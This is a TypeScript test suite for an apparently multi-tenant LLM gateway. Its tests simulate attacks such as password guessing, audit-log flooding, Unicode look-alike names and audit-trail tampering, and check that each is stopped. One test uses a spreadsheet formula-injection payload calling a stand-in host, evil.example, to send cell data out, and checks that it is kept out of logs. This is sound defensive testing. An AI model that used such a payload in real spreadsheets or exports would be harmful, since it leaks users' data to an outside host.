import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { afterEach, describe, expect, it } from 'vitest';
import type { AuditRecord } from '../../src/audit/log.js';
import { resolveConfig } from '../../src/core/config.js';
import { createServer, type JugwonServer } from '../../src/http/server.js';
import { createApiKey } from '../../src/tenancy/api-keys.js';
import { createTenant } from '../../src/tenancy/tenants.js';
import { createUser } from '../../src/tenancy/users.js';
import { seedCollection } from '../support/collections.js';
import { distinctPhones } from '../support/growth.js';
import { sqliteOf } from '../support/stores.js';

/** Guarantees under attack: each test does what an attacker would, and fails on the code before it. */

const servers: JugwonServer[] = [];
afterEach(async () => {
  for (const s of servers.splice(0)) await s.close();
});

async function start(): Promise<JugwonServer> {
  const server = await createServer(
    resolveConfig({ dataDir: mkdtempSync(join(tmpdir(), 'jugwon-guard-')) }),
    {
      logger: false,
    },
  );
  servers.push(server);
  await createTenant(server.store.db, 'bank');
  await createUser(server.store.db, 'bank', 'kim', { password: 'correct horse battery' });
  await createUser(server.store.db, 'bank', 'lee', { password: 'staple battery horse' });
  return server;
}

/** Uploads one document as the console does: its raw bytes, PUT under the collection's name. */
function putDocument(
  server: JugwonServer,
  key: string,
  collection: string,
  file: string,
  body: string | Uint8Array,
) {
  return server.app.inject({
    method: 'PUT',
    url: `/api/collections/${encodeURIComponent(collection)}/documents/${encodeURIComponent(file)}`,
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/octet-stream' },
    payload: Buffer.from(body),
  });
}

/** A server whose one model, `abroad`, is a mock upstream of the given residency. */
async function serverWithUpstream(residency: 'foreign' | 'domestic', config: Record<string, unknown> = {}) {
  const { startMockUpstream } = await import('../support/mock-upstream.js');
  const upstream = await startMockUpstream();
  const server = await serverWithModel({ id: 'abroad', baseUrl: upstream.url, residency }, config);
  return { server, upstream };
}

/** A server whose one model is an OpenAI-compatible server at `model.baseUrl`. */
async function serverWithModel(
  model: { id: string; baseUrl: string; residency: string; retries?: number },
  config: Record<string, unknown> = {},
  options: Parameters<typeof createServer>[1] = { logger: false },
): Promise<JugwonServer> {
  const server = await createServer(
    resolveConfig({
      dataDir: mkdtempSync(join(tmpdir(), 'jugwon-upstream-')),
      models: [{ provider: 'openai-compatible', ...model }],
      ...config,
    }),
    options,
  );
  servers.push(server);
  return server;
}

/** A new data folder offering one evaluation suite, `mini.jsonl`, of one question. */
function withMiniSuite(prefix: string): string {
  const dataDir = mkdtempSync(join(tmpdir(), prefix));
  mkdirSync(join(dataDir, 'eval-suites'));
  writeFileSync(
    join(dataDir, 'eval-suites', 'mini.jsonl'),
    `${JSON.stringify({ id: 'q1', question: '수도는?', choices: ['서울', '부산'], answer: 0 })}\n`,
  );
  return dataDir;
}

const signIn = (server: JugwonServer, user: string, password: string, ip = '127.0.0.1') =>
  server.app.inject({
    method: 'POST',
    url: '/api/session',
    payload: { tenant: 'bank', user, password },
    remoteAddress: ip,
  });

const records = (server: JugwonServer) =>
  sqliteOf(server.store)
    .prepare<[], { record: string }>('SELECT record FROM audit_log ORDER BY seq')
    .all()
    .map((r) => JSON.parse(r.record) as AuditRecord);

describe('sign-in guessing', () => {
  it('is refused, with Retry-After and without a password check, after five failures for one user', async () => {
    const server = await start();
    for (let i = 0; i < 5; i++)
      expect((await signIn(server, 'kim', `wrong guess ${i}`)).statusCode).toBe(401);
    const locked = await signIn(server, 'kim', 'correct horse battery');
    expect([locked.statusCode, locked.json().error.code]).toEqual([429, 'JG_SIGNIN_THROTTLED']);
    expect(Number(locked.headers['retry-after'])).toBeGreaterThan(0);
    // Another user is not locked out by someone guessing kim's password from another address.
    expect((await signIn(server, 'lee', 'staple battery horse', '10.0.0.9')).statusCode).toBe(200);
  });

  it('throttles guesses of the current password through a signed-in session (a stolen cookie)', async () => {
    const server = await start();
    const session = await signIn(server, 'kim', 'correct horse battery');
    const cookie = String(session.headers['set-cookie']).split(';')[0] as string;
    const headers = { cookie, 'x-jugwon-csrf': session.json().csrf as string };
    const change = (current: string) =>
      server.app.inject({
        method: 'PUT',
        url: '/api/session/password',
        headers,
        payload: { current, password: 'a brand new passphrase' },
      });
    for (let i = 0; i < 5; i++)
      expect((await change(`guess ${i}`)).json().error.code).toBe('JG_PASSWORD_WRONG');
    // Unthrottled, the thief could keep guessing (and make the server hash each guess).
    const locked = await change('correct horse battery');
    expect([locked.statusCode, locked.json().error.code]).toEqual([429, 'JG_SIGNIN_THROTTLED']);
  });

  it('refuses names and passwords longer than any can be, before anything is counted or hashed', async () => {
    const server = await start();
    const long = (n: number) => '가'.repeat(n);
    for (const [tenant, user, password] of [
      [long(1_000_000), 'kim', 'wrong guess'],
      ['bank', long(1_000_000), 'wrong guess'],
      ['bank', 'kim', long(1_025)],
    ] as const) {
      const res = await server.app.inject({
        method: 'POST',
        url: '/api/session',
        payload: { tenant, user, password },
      });
      // Each was a failed sign-in remembered by its name: a megabyte kept per request, without a key.
      expect([res.statusCode, res.json().error.code]).toEqual([400, 'JG_INVALID_REQUEST']);
    }
    expect((await signIn(server, 'kim', 'correct horse battery')).statusCode).toBe(200);
  });

  it('runs password hashing off the event loop: eight parallel wrong sign-ins do not stall other requests', async () => {
    const server = await start();
    const delay = monitorEventLoopDelay({ resolution: 5 });
    delay.enable();
    await Promise.all(
      Array.from({ length: 8 }, (_, i) => signIn(server, 'lee', `wrong ${i}`, `10.0.1.${i}`)),
    );
    delay.disable();
    // scrypt on the loop blocked it ~50 ms per sign-in, 400 ms for eight.
    expect(delay.max / 1e6).toBeLessThan(100);
  });
});

describe('unauthenticated requests', () => {
  it('are counted and written as one audit record per route and code, not one durable row each', async () => {
    const server = await start();
    await createApiKey(server.store.db, 'bank');
    const before = records(server).length;
    for (let i = 0; i < 200; i++)
      expect(
        (
          await server.app.inject({
            method: 'GET',
            url: '/v1/models',
            headers: { authorization: 'Bearer nope' },
          })
        ).statusCode,
      ).toBe(401);
    for (let i = 0; i < 50; i++)
      await server.app.inject({ method: 'GET', url: '/v1/models', remoteAddress: `10.0.2.${i}` });
    expect(records(server).length).toBe(before);
    await server.platform.unauthenticated.flush();
    const written = records(server).slice(before);
    expect(written.map((r) => [r.route, r.outcome, r.count, r.target])).toEqual([
      ['GET /v1/models', 'JG_AUTH_INVALID', 200, '1 address(es)'],
      ['GET /v1/models', 'JG_AUTH_MISSING', 50, '50 address(es)'],
    ]);
  });
});

describe('strings a caller chooses, in the trail, usage and metrics', () => {
  const RRN = '900101-1234568';

  it('keyless requests to ever new paths still add one record per route and code, never the path', async () => {
    const server = await start();
    await createApiKey(server.store.db, 'bank');
    const before = records(server).length;
    for (let i = 0; i < 300; i++) {
      const url = [
        `/v1/x${i}`,
        `/api/collections/c${i}/documents/${RRN}-${i}.hwp`,
        `/v1/models/${i}?q=${RRN}`,
      ][i % 3];
      expect((await server.app.inject({ method: 'GET', url })).statusCode).toBe(401);
    }
    await server.platform.unauthenticated.flush();
    const written = records(server).slice(before);
    // One record per route pattern (three here) however many paths: it was one per path.
    expect(written.length).toBeLessThanOrEqual(3);
    expect(written.reduce((n, r) => n + (r.count ?? 0), 0)).toBe(300);
    expect(JSON.stringify(written).includes('1234568')).toBe(false);
  });

  it('requests without a key add no record each, whatever their answer: a bad header, a bad or throttled sign-in, /api/sso', async () => {
    const server = await start();
    await createApiKey(server.store.db, 'bank');
    const before = records(server).length;
    for (let i = 0; i < 100; i++) {
      await server.app.inject({
        method: 'GET',
        url: '/v1/models',
        headers: { 'x-jugwon-data-class': 'nonsense' },
      });
      await server.app.inject({ method: 'POST', url: '/api/session', payload: { tenant: 'bank' } });
      await server.app.inject({ method: 'GET', url: '/api/sso' });
      await signIn(server, 'kim', `guess ${i}`, `10.0.3.${i}`); // 401, then 429 once kim is locked
    }
    await server.platform.unauthenticated.flush();
    const written = records(server).slice(before);
    // One record per route, status and code (each of the 400 requests was a durable row of its own).
    expect(written.length).toBeLessThanOrEqual(6);
    expect(written.reduce((n, r) => n + (r.count ?? 0), 0)).toBe(400);
    expect(written.map((r) => [r.route, r.status, r.outcome]).sort()).toEqual(
      [
        ['GET /api/sso', 200, 'ok'],
        ['GET /v1/models', 400, 'JG_INVALID_REQUEST'],
        ['POST /api/session', 400, 'JG_INVALID_REQUEST'],
        ['POST /api/session', 401, 'JG_SIGNIN_FAILED'],
        ['POST /api/session', 429, 'JG_SIGNIN_THROTTLED'],
      ].sort(),
    );
    // A sign-in that succeeds is recorded at once, naming who signed in.
    expect((await signIn(server, 'lee', 'staple battery horse')).statusCode).toBe(200);
    const last = records(server).at(-1);
    expect([last?.route, last?.tenant, last?.user, last?.status]).toEqual([
      'POST /api/session',
      'bank',
      'lee',
      200,
    ]);
  });

  it("a keyed request's record names the route's pattern and, as its target, what it acted on", async () => {
    const server = await start();
    const { key } = await createApiKey(server.store.db, 'bank', { role: 'admin' });
    const put = await putDocument(server, key, 'rules', '대출 규정.md', '제1조 대출 금리는 연 5%이다.');
    expect(put.statusCode).toBe(200);
    const last = records(server).at(-1);
    expect([last?.route, last?.target, last?.tenant]).toEqual([
      'PUT /api/collections/:name/documents/:file',
      'rules/대출 규정.md',
      'bank',
    ]);
  });

  it('one document whether its name comes composed (Windows) or decomposed (macOS), on every path', async () => {
    const server = await start();
    const { key } = await createApiKey(server.store.db, 'bank', { role: 'admin' });
    const auth = { authorization: `Bearer ${key}` };
    const composed = '대출 규정.md';
    const decomposed = composed.normalize('NFD');
    expect(decomposed).not.toBe(composed);
    const put = (name: string, text: string) => putDocument(server, key, 'rules', name, text);
    const listed = async () =>
      (
        await server.app.inject({ method: 'GET', url: '/api/collections/rules/documents', headers: auth })
      ).json().data as { docId: string; state?: string }[];
    expect((await put(composed, '제1조 대출 금리는 연 5%이다.')).json().docId).toBe(composed);
    // The same file uploaded again from a Mac replaces it: it was a second document.
    expect((await put(decomposed, '제1조 대출 금리는 연 4%이다.')).json().docId).toBe(composed);
    expect((await listed()).map((d) => d.docId)).toEqual([composed]);
    const search = await server.app.inject({
      method: 'POST',
      url: '/api/collections/rules/search',
      headers: auth,
      payload: { query: '대출 금리' },
    });
    expect(JSON.stringify(search.json())).toContain('4%');
    expect(JSON.stringify(search.json())).not.toContain('5%');
    // Deleted by either name.
    const del = await server.app.inject({
      method: 'DELETE',
      url: `/api/collections/rules/documents/${encodeURIComponent(decomposed)}`,
      headers: auth,
    });
    expect(del.statusCode).toBe(200);
    expect(await listed()).toEqual([]);
  });

  it('one collection whether its name comes composed or decomposed: no look-alike made by another tenant', async () => {
    const server = await start();
    const bank = (await createApiKey(server.store.db, 'bank', { role: 'admin' })).key;
    await createTenant(server.store.db, 'other');
    const other = (await createApiKey(server.store.db, 'other', { role: 'admin' })).key;
    const composed = '대출규정';
    const decomposed = composed.normalize('NFD');
    const at = (name: string, rest: string) => `/api/collections/${encodeURIComponent(name)}${rest}`;
    const put = (key: string, name: string, file: string, text: string) =>
      putDocument(server, key, name, file, text);
    expect((await put(bank, composed, 'a.md', '제1조 대출 금리는 연 5%이다.')).statusCode).toBe(200);
    // From a Mac: the same collection (it was a second one, with a name that looked the same).
    expect((await put(bank, decomposed, 'b.md', '제2조 상환 기간은 10년이다.')).statusCode).toBe(200);
    const listed = await server.app.inject({
      method: 'GET',
      url: '/api/collections',
      headers: { authorization: `Bearer ${bank}` },
    });
    expect(listed.json().data.map((c: { name: string }) => c.name)).toEqual([composed]);
    const docs = await server.app.inject({
      method: 'GET',
      url: at(decomposed, '/documents'),
      headers: { authorization: `Bearer ${bank}` },
    });
    expect(docs.json().data.map((d: { docId: string }) => d.docId)).toEqual(['a.md', 'b.md']);
    const found = await server.app.inject({
      method: 'POST',
      url: at(decomposed, '/search'),
      headers: { authorization: `Bearer ${bank}` },
      payload: { query: '상환 기간' },
    });
    expect(JSON.stringify(found.json())).toContain('10년');
    // Another tenant cannot make a look-alike of the bank's collection by decomposing its name.
    const squat = await put(other, decomposed, 'x.md', '가짜 규정');
    expect(squat.statusCode).toBe(404);
    expect(squat.json().error.code).toBe('JG_COLLECTION_NOT_FOUND');
    const removed = await server.app.inject({
      method: 'DELETE',
      url: at(decomposed, '/documents/b.md'),
      headers: { authorization: `Bearer ${bank}` },
    });
    expect(removed.statusCode).toBe(200);
    const left = await server.app.inject({
      method: 'GET',
      url: at(composed, '/documents'),
      headers: { authorization: `Bearer ${bank}` },
    });
    expect(left.json().data.map((d: { docId: string }) => d.docId)).toEqual(['a.md']);
  });

  it("a collection named after an object's own properties is a collection like any other", async () => {
    const server = await start();
    await createTenant(server.store.db, 'other');
    const bank = (await createApiKey(server.store.db, 'bank', { role: 'admin' })).key;
    const other = (await createApiKey(server.store.db, 'other', { role: 'admin' })).key;
    for (const name of ['constructor', 'toString', 'hasOwnProperty']) {
      // Read Object's own members as its settings (no owner: shared): the owner's upload was
      // refused as a change to a shared collection, and every tenant could read it.
      const put = await putDocument(server, bank, name, 'keys.md', '제1조 대출 금리는 연 5%이다.');
      expect(put.statusCode).toBe(200);
      const theirs = await server.app.inject({
        method: 'POST',
        url: `/api/collections/${name}/search`,
        headers: { authorization: `Bearer ${other}` },
        payload: { query: '대출 금리' },
      });
      expect([theirs.statusCode, theirs.json().error.code]).toEqual([404, 'JG_COLLECTION_NOT_FOUND']);
    }
    const listed = await server.app.inject({
      method: 'GET',
      url: '/api/collections',
      headers: { authorization: `Bearer ${bank}` },
    });
    expect(
      listed
        .json()
        .data.map((c: { name: string; tenant: string }) => [c.name, c.tenant])
        .sort(),
    ).toEqual([
      ['constructor', 'bank'],
      ['hasOwnProperty', 'bank'],
      ['toString', 'bank'],
    ]);
    expect(typeof Object.keys).toBe('function');
  });

  it('a request id holding personal data is replaced; a plain one is kept and echoed', async () => {
    const server = await start();
    const { key } = await createApiKey(server.store.db, 'bank');
    const models = (id: string) =>
      server.app.inject({
        method: 'GET',
        url: '/v1/models',
        headers: { authorization: `Bearer ${key}`, 'x-request-id': id },
      });
    const plain = await models('case-2026-0042');
    expect(plain.headers['x-request-id']).toBe('case-2026-0042');
    const rrn = await models(RRN);
    expect(rrn.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/);
    const trail = records(server).map((r) => r.requestId);
    expect(trail).toContain('case-2026-0042');
    expect(trail).toContain(rrn.headers['x-request-id']);
    expect(JSON.stringify(records(server)).includes('1234568')).toBe(false);
  });

  it('a model name that is not configured reaches neither the trail, usage nor metrics', async () => {
    const { server, upstream } = await serverWithUpstream('domestic');
    try {
      await createTenant(server.store.db, 'bank');
      const { key } = await createApiKey(server.store.db, 'bank');
      const ask = (model: string) =>
        server.app.inject({
          method: 'POST',
          url: '/v1/chat/completions',
          headers: { authorization: `Bearer ${key}` },
          payload: { model, messages: [{ role: 'user', content: '안녕하세요' }] },
        });
      const names = [`=HYPERLINK("http://evil.example/?"&A1,"x")`, `고객 ${RRN}`, 'm'.repeat(100_000)];
      for (let i = 0; i < 200; i++) names.push(`model-${i}`);
      for (const name of names) expect((await ask(name)).statusCode).toBe(404);
      expect((await ask('abroad')).statusCode).toBe(200);
      const trail = JSON.stringify(records(server));
      expect(trail.includes('1234568')).toBe(false);
      expect(trail.includes('HYPERLINK')).toBe(false);
      expect(trail.includes('model-7')).toBe(false);
      expect(trail.length).toBeLessThan(200_000); // the 100,000-character name is not kept
      const usage = sqliteOf(server.store)
        .prepare<[], { model: string }>('SELECT DISTINCT model FROM usage')
        .all();
      expect(usage.map((u) => u.model).sort()).toEqual(['abroad']);
      const metrics = await server.platform.metrics.registry.metrics();
      expect(metrics.includes('1234568')).toBe(false);
      expect(metrics.includes('model-7')).toBe(false);
      expect(metrics.length).toBeLessThan(50_000); // one series per configured model, not per name
    } finally {
      await upstream.close();
    }
  });
});

describe('wrong secrets for a real key', () => {
  it('cost a hash each, not a password hash: 1,000 of them do not occupy the server', async () => {
    const server = await start();
    const k = await createApiKey(server.store.db, 'bank');
    const random = () => Buffer.from(crypto.getRandomValues(new Uint8Array(32))).toString('base64url');
    const cpu = process.cpuUsage();
    const started = performance.now();
    // Anyone who has seen a key's id (audit exports, key lists) can send these without limit:
    // they fail before any rate limit applies. With scrypt (~50 ms each) they took ~50 s of CPU.
    const answers = await Promise.all(
      Array.from({ length: 1_000 }, () =>
        server.app.inject({
          method: 'GET',
          url: '/v1/models',
          headers: { authorization: `Bearer jg_${k.id}_${random()}` },
        }),
      ),
    );
    const seconds = (performance.now() - started) / 1000;
    const cpuSeconds = ((u) => (u.user + u.system) / 1e6)(process.cpuUsage(cpu));
    expect(answers.every((a) => a.statusCode === 401)).toBe(true);
    expect([seconds < 8, cpuSeconds < 10]).toEqual([true, true]);
    expect(
      (
        await server.app.inject({
          method: 'GET',
          url: '/v1/models',
          headers: { authorization: `Bearer ${k.key}` },
        })
      ).statusCode,
    ).toBe(200);
  });

  it('a key stored with scrypt by an earlier version still works, and is then stored the fast way', async () => {
    const server = await start();
    const k = await createApiKey(server.store.db, 'bank');
    const { hashSecret } = await import('../../src/tenancy/keys.js');
    const secret = k.key.slice(`jg_${k.id}_`.length); // the secret may hold '_'
    const salt = 'ab'.repeat(16);
    const db = sqliteOf(server.store);
    db.prepare('UPDATE api_keys SET salt = ?, hash = ? WHERE id = ?').run(
      salt,
      await hashSecret(secret, salt),
      k.id,
    );
    const models = (key: string) =>
      server.app.inject({ method: 'GET', url: '/v1/models', headers: { authorization: `Bearer ${key}` } });
    expect((await models(`jg_${k.id}_${'x'.repeat(43)}`)).statusCode).toBe(401);
    expect((await models(k.key)).statusCode).toBe(200);
    const row = db.prepare('SELECT salt, hash FROM api_keys WHERE id = ?').get(k.id) as {
      salt: string;
      hash: string;
    };
    expect(row.salt).toBe('');
    expect((await models(k.key)).statusCode).toBe(200);
    expect((await models(`jg_${k.id}_${'x'.repeat(43)}`)).statusCode).toBe(401);
  });
});

describe('bootstrap and sessions', () => {
  it('opens keyless loopback access only until the first key has ever existed: revoking it does not reopen it', async () => {
    const server = await start();
    expect((await server.app.inject({ method: 'GET', url: '/v1/models' })).statusCode).toBe(200); // fresh install
    const k = await createApiKey(server.store.db, 'bank');
    expect((await server.app.inject({ method: 'GET', url: '/v1/models' })).statusCode).toBe(401);
    const { revokeApiKey } = await import('../../src/tenancy/api-keys.js');
    await revokeApiKey(server.store.db, k.id);
    expect((await server.app.inject({ method: 'GET', url: '/v1/models' })).statusCode).toBe(401);
  });

  it('behind a trusted proxy sees the client address and TLS; Secure cookies over TLS or when configured', async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'jugwon-proxy-'));
    const server = await createServer(resolveConfig({ dataDir, server: { trustProxy: true } }), {
      logger: false,
    });
    servers.push(server);
    await createTenant(server.store.db, 'bank');
    await createUser(server.store.db, 'bank', 'kim', { password: 'correct horse battery' });
    // A client behind the proxy (which itself connects from loopback) is not a loopback caller.
    const viaProxy = await server.app.inject({
      method: 'GET',
      url: '/v1/models',
      headers: { 'x-forwarded-for': '203.0.113.7' },
    });
    expect(viaProxy.statusCode).toBe(401);
    const tls = await server.app.inject({
      method: 'POST',
      url: '/api/session',
      headers: { 'x-forwarded-proto': 'https', 'x-forwarded-for': '203.0.113.7' },
      payload: { tenant: 'bank', user: 'kim', password: 'correct horse battery' },
    });
    expect(String(tls.headers['set-cookie'])).toContain('; Secure');
    const plain = await signIn(await start(), 'kim', 'correct horse battery');
    expect(String(plain.headers['set-cookie'])).not.toContain('Secure');
    const configured = await createServer(
      resolveConfig({ dataDir: mkdtempSync(join(tmpdir(), 'jugwon-sec-')), server: { secureCookies: true } }),
      { logger: false },
    );
    servers.push(configured);
    await createTenant(configured.store.db, 'bank');
    await createUser(configured.store.db, 'bank', 'kim', { password: 'correct horse battery' });
    expect(
      String((await signIn(configured, 'kim', 'correct horse battery')).headers['set-cookie']),
    ).toContain('; Secure');
  });
});

describe('stand-ins', () => {
  it("never rewrite text the caller sent that looks like one (the answer keeps the caller's literal 〔PERSON_1〕)", async () => {
    const { server, upstream } = await serverWithUpstream('foreign');
    try {
      const content = '양식의 〔PERSON_1〕 칸에 김민준님 이름을 적어 주세요';
      const res = await server.app.inject({
        method: 'POST',
        url: '/v1/chat/completions',
        payload: { model: 'abroad', messages: [{ role: 'user', content }] },
      });
      expect(res.json().choices[0].message.content).toBe(`echo: ${content}`);
      expect(upstream.received.at(-1)).toContain('〔PERSON_2〕');
      expect(upstream.received.at(-1)).not.toContain('김민준');
    } finally {
      await upstream.close();
    }
  });
});

describe('budgets', () => {
  /** An upstream that streams `n` chunks of answer text, 30 ms apart, and never reports usage. */
  async function slowStreamer(n: number) {
    const { createServer: http } = await import('node:http');
    const server = http((req, res) => {
      req.resume();
      req.on('end', async () => {
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        for (let i = 0; i < n && !res.destroyed; i++) {
          res.write(
            `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: { content: '가나다라마' }, finish_reason: null }] })}\n\n`,
          );
          await new Promise((r) => setTimeout(r, 30));
        }
        if (!res.destroyed) res.end('data: [DONE]\n\n');
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    const { port } = server.address() as { port: number };
    return {
      url: `http://127.0.0.1:${port}/v1`,
      close: () => new Promise<void>((r) => server.close(() => r())),
    };
  }

  async function budgeted(upstreamUrl: string) {
    const server = await createServer(
      resolveConfig({
        dataDir: mkdtempSync(join(tmpdir(), 'jugwon-bill-')),
        models: [{ id: 'home', provider: 'openai-compatible', baseUrl: upstreamUrl, residency: 'onprem' }],
      }),
      { logger: false },
    );
    servers.push(server);
    await createTenant(server.store.db, 'acme', { tokensPerDay: 1_000_000 });
    const { key } = await createApiKey(server.store.db, 'acme');
    return { server, key };
  }

  const streamOnce = (server: JugwonServer, key: string) =>
    server.app.inject({
      method: 'POST',
      url: '/v1/chat/completions',
      headers: { authorization: `Bearer ${key}` },
      payload: { model: 'home', stream: true, messages: [{ role: 'user', content: '안녕' }] },
    });

  it('bills a stream cut off by its client for its prompt and what was streamed, never 0', async () => {
    const upstream = await slowStreamer(50);
    try {
      const { server, key } = await budgeted(upstream.url);
      const address = await server.app.listen({ host: '127.0.0.1', port: 0 });
      const controller = new AbortController();
      const res = await fetch(`${address}/v1/chat/completions`, {
        method: 'POST',
        headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
        body: JSON.stringify({
          model: 'home',
          stream: true,
          messages: [{ role: 'user', content: '길게 답해 줘' }],
        }),
        signal: controller.signal,
      });
      const reader = (res.body as ReadableStream<Uint8Array>).getReader();
      await reader.read();
      await reader.read();
      controller.abort();
      await new Promise((r) => setTimeout(r, 300));
      const last = records(server)
        .filter((r) => r.route === 'POST /v1/chat/completions')
        .at(-1);
      expect(last?.status).toBe(499);
      expect(last?.promptTokens).toBeGreaterThan(0);
      expect(last?.completionTokens).toBeGreaterThanOrEqual(15); // at least one chunk: 15 bytes
      const used = sqliteOf(server.store).prepare('SELECT SUM(used) AS n FROM quota_counters').get() as {
        n: number;
      };
      expect(used.n).toBe(((last?.promptTokens ?? 0) + (last?.completionTokens ?? 0)) * 1); // tenant budget
    } finally {
      await upstream.close();
    }
  });

  it('bills a whole stream from an upstream that reports no usage by what it streamed', async () => {
    const upstream = await slowStreamer(3);
    try {
      const { server, key } = await budgeted(upstream.url);
      expect((await streamOnce(server, key)).statusCode).toBe(200);
      const last = records(server).at(-1);
      expect([last?.status, last?.completionTokens]).toEqual([200, 45]); // 3 chunks of 15 bytes
    } finally {
      await upstream.close();
    }
  });

  it('still writes the audit record when usage cannot be recorded', async () => {
    const upstream = await slowStreamer(1);
    try {
      const { server, key } = await budgeted(upstream.url);
      // The usage table refuses writes (a full disk, a broken table): the request's audit record stays.
      sqliteOf(server.store).exec(
        "CREATE TRIGGER usage_fails BEFORE INSERT ON usage BEGIN SELECT RAISE(ABORT, 'disk full'); END",
      );
      expect((await streamOnce(server, key)).statusCode).toBe(200);
      expect(records(server).at(-1)).toMatchObject({
        status: 200,
        target: expect.stringContaining('accounting failed'),
      });
    } finally {
      await upstream.close();
    }
  });
});

describe('ownership before data', () => {
  it('an ingest killed mid-way leaves its collection owned, and a re-run completes it', async () => {
    const { spawn } = await import('node:child_process');
    const { existsSync, readdirSync } = await import('node:fs');
    const { BIN, run } = await import('../support/cli.js');
    const dir = mkdtempSync(join(tmpdir(), 'jugwon-own-'));
    mkdirSync(join(dir, 'docs'));
    for (let i = 0; i < 3000; i++)
      writeFileSync(
        join(dir, 'docs', `${String(i).padStart(4, '0')}.md`),
        `# 규정 ${i}\n\n제${i}조 대출 금리는 기준금리에 ${i}%를 더한다.\n`,
      );
    const args = ['ingest', 'docs', '--collection', 'owned', '--tenant', 'bank', '--data-dir', 'data'];
    // The tenant must exist: create it through the store the command will use.
    const server = await createServer(resolveConfig({ dataDir: join(dir, 'data') }), { logger: false });
    await createTenant(server.store.db, 'bank');
    await createTenant(server.store.db, 'other');
    await server.close();
    const child = spawn(process.execPath, [BIN, ...args], { cwd: dir, stdio: 'ignore' });
    const knowledge = join(dir, 'data', 'knowledge');
    // Kill it as soon as the first rows exist (the table's folder appears).
    for (
      let i = 0;
      i < 600 && !(existsSync(knowledge) && readdirSync(knowledge).some((f) => f.startsWith('c_')));
      i++
    )
      await new Promise((r) => setTimeout(r, 25));
    expect(child.exitCode).toBeNull(); // still ingesting: killed mid-way
    child.kill('SIGKILL');
    await new Promise((r) => child.once('exit', r));
    const { readSettings } = await import('../../src/knowledge/settings.js');
    expect(readSettings(join(dir, 'data')).owned).toEqual({ tenant: 'bank' });
    const again = await run(args, dir);
    expect(again.code, again.stderr).toBe(0);
  }, 120_000);

  it('a collection with no recorded owner is visible to the platform operator only, until repaired', async () => {
    const { run } = await import('../support/cli.js');
    const dir = mkdtempSync(join(tmpdir(), 'jugwon-orphan-'));
    const dataDir = join(dir, 'data');
    // What an ingest left before owners were recorded first: rows, and no settings entry.
    await seedCollection(dataDir, 'orphan', [
      { docId: 'a', source: 'a.md', title: '', markdown: '제1조 금리는 3%이다.' },
    ]);
    const server = await createServer(resolveConfig({ dataDir }), { logger: false });
    servers.push(server);
    await createTenant(server.store.db, 'bank');
    await createTenant(server.store.db, 'other');
    const member = (await createApiKey(server.store.db, 'other')).key;
    const admin = (await createApiKey(server.store.db, 'bank', { role: 'operator' })).key;
    const search = (key: string) =>
      server.app.inject({
        method: 'POST',
        url: '/api/collections/orphan/search',
        headers: { authorization: `Bearer ${key}` },
        payload: { query: '금리' },
      });
    expect((await search(member)).statusCode).toBe(404);
    expect((await search(admin)).statusCode).toBe(200);
    const listed = await run(['collections', 'repair', '--data-dir', 'data'], dir);
    expect([listed.code, listed.stdout]).toEqual([1, expect.stringContaining('orphan')]);
    expect((await run(['collections', 'repair', '--tenant', 'bank', '--data-dir', 'data'], dir)).code).toBe(
      0,
    );
    expect((await search(member)).statusCode).toBe(404); // now owned by bank
    const bankMember = (await createApiKey(server.store.db, 'bank')).key;
    expect((await search(bankMember)).statusCode).toBe(200);
  });
});

describe('an audit trail that detects cuts', () => {
  async function trail(records: number) {
    const { verifyAudit } = await import('../../src/audit/log.js');
    const { keyPaths } = await import('../../src/audit/signing.js');
    const { chainHash } = await import('../../src/audit/canonical.js');
    const dataDir = mkdtempSync(join(tmpdir(), 'jugwon-anchor-'));
    const server = await createServer(resolveConfig({ dataDir }), { logger: false });
    servers.push(server);
    for (let i = 0; i < records; i++)
      await server.platform.ledger.write({
        audit: {
          time: new Date().toISOString(),
          kind: 'request',
          tenant: 't',
          keyId: null,
          route: `r${i}`,
          decision: 'allow',
          status: 200,
          outcome: 'ok',
        },
      });
    await server.platform.ledger.checkpoint();
    const db = sqliteOf(server.store);
    const verify = (withAnchor = true) =>
      verifyAudit(
        server.store.db,
        keyPaths(dataDir).publicKey,
        withAnchor ? { anchor: server.platform.anchor } : {},
      );
    /** Rewrites records from `from` on (content changed, hashes recomputed) and drops their checkpoints. */
    const rewriteFrom = (from: number) => {
      const rows = db
        .prepare('SELECT seq, record, prev_hash FROM audit_log WHERE seq >= ? ORDER BY seq')
        .all(from) as {
        seq: number;
        record: string;
        prev_hash: string;
      }[];
      let prev = rows[0]?.prev_hash as string;
      for (const r of rows) {
        const record = r.record.replace('"allow"', '"block"');
        const hash = chainHash(prev, record);
        db.prepare('UPDATE audit_log SET record = ?, prev_hash = ?, hash = ? WHERE seq = ?').run(
          record,
          prev,
          hash,
          r.seq,
        );
        prev = hash;
      }
      db.prepare('DELETE FROM audit_checkpoints WHERE seq >= ?').run(from);
    };
    return { server, db, verify, rewriteFrom };
  }

  it('writes every checkpoint to the anchor outside the database, and verifies against it', async () => {
    const { verify, server } = await trail(250);
    const r = await verify();
    expect(r).toMatchObject({ ok: true, records: 250, unsignedTail: 0 });
    expect(r.anchored).toBe(server.platform.anchor.read().length);
    expect(r.anchored).toBeGreaterThanOrEqual(3); // at 100, 200 and the final one
  });

  it('fails when records are rewritten from some point with hashes recomputed and checkpoints removed', async () => {
    const { verify, rewriteFrom } = await trail(250);
    // After the checkpoint at 200: the tail left unsigned is short, so only the anchor can tell.
    rewriteFrom(220);
    expect((await verify(false)).ok).toBe(true); // what the database alone shows
    expect((await verify()).firstBad?.problem).toContain('no longer match the anchor');
  });

  it('fails when the tail is cut with its checkpoint, or the log is emptied', async () => {
    const cut = await trail(250);
    cut.db.prepare('DELETE FROM audit_log WHERE seq > 240').run();
    cut.db.prepare('DELETE FROM audit_checkpoints WHERE seq > 240').run();
    expect((await cut.verify()).firstBad?.problem).toContain('missing (cut or emptied)');
    const emptied = await trail(50);
    emptied.db.prepare('DELETE FROM audit_log').run();
    emptied.db.prepare('DELETE FROM audit_checkpoints').run();
